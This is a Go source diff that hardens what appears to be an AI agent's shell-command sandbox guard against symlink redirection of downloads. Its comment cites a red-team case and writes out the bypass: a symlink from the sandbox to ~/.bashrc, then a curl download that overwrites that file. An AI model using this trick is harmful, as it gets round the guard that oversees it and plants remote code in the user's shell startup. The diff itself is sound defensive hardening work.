@@ -158,7 +158,40 @@ func (p *Pass) protectedDest(c *syntax.Call, rule, kind string, rel []Relocation
 			denied = true
 		}
 	}
-	return denied
+	return denied || p.linkedSandboxDest(c, kind, rel)
+}
+
+// linkedSandboxDest denies a download moved into the sandbox whose new
+// place is a symbolic link, one on disk or one an earlier ln of this
+// command makes, that leads to a file the path guards deny writing (red
+// team 14 SL1: ln -s ~/.bashrc agent_sandbox/evil.sh; curl -o evil.sh
+// URL, rewritten to -o agent_sandbox/evil.sh, wrote ~/.bashrc). The
+// sandbox is the agent's to write, so a link there is followed here.
+func (p *Pass) linkedSandboxDest(c *syntax.Call, kind string, rel []Relocation) bool {
+	cfg := p.Config
+	if cfg.Paths == nil {
+		return false
+	}
+	env := guards.Env{Project: cfg.Project, Cwd: c.Dir.Path, Home: cfg.Home, Sandbox: cfg.Sandbox}
+	at := topStart(c.Script, c.Start)
+	for _, r := range rel {
+		if r.To == "" {
+			continue
+		}
+		leads := append([]string{guards.Normalize(env, r.To).Abs}, p.throughLinks(r.To, at, c)...)
+		for _, q := range leads {
+			if q == r.To || p.inSandboxPath(q) && q != guards.Normalize(env, r.To).Abs {
+				continue
+			}
+			d := cfg.Paths.Decide(env, q, guards.Write)
+			if d.Verdict == guards.Deny {
+				p.Report(c, Finding{Rule: "bash-write", Decision: Deny, Kind: kind, PathContext: d.PathContext,
+					Message: c.Name + " would write its download to " + r.To + ", a link to " + q + ": " + d.Message})
+				return true
+			}
+		}
+	}
+	return false
 }
 
 // intoSandboxDir is the fix for a downloader that saves into its working
